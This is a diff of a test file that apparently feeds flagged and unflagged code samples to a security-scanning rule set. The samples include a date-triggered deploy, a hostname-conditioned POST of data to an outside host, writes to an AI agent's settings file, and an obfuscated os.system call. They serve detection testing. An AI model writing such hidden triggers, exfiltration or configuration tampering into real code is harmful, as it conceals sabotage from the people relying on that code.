@@ -234,6 +234,16 @@ class RuleExamplesTest {
                         "open(home + '/.claude/settings.json', 'w').write(x)\n",
                         "open(home + '/.claude/settings.json').read()\n"),
                 script(
+                        "514",
+                        high,
+                        "if datetime.now() >= datetime(2031, 5, 1):\n    os.system('make deploy')\n",
+                        "print(datetime.now() - datetime(2031, 5, 1))\nos.system('make deploy')\n"),
+                script(
+                        "514",
+                        high,
+                        "if socket.gethostname() == 'build-7':\n    requests.post('https://x.io', data=d)\n",
+                        "log(socket.gethostname())\nrequests.post('https://x.io', data=d)\n"),
+                script(
                         "515",
                         high,
                         "import os\ngetattr(os, 'sys' + 'tem')('ls')\nos.system('ls')\n",
